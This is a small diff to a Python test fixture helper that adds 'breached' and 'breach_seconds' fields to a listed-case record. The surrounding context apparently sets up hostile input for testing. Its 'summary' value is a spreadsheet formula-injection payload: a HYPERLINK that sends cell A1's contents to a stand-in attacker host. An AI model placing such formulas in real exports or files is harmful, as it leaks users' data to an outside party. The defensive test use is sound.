@@ -42,6 +42,8 @@ def _case(**changes: object) -> ListedCase:
         "flagged": True,
         "priority": "normal",
         "late_registration": False,
+        "breached": False,
+        "breach_seconds": 0,
         "summary": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "flag": ActiveFlag(1, HOSTILE["flag_comment"], "-pros", NOW),
     }
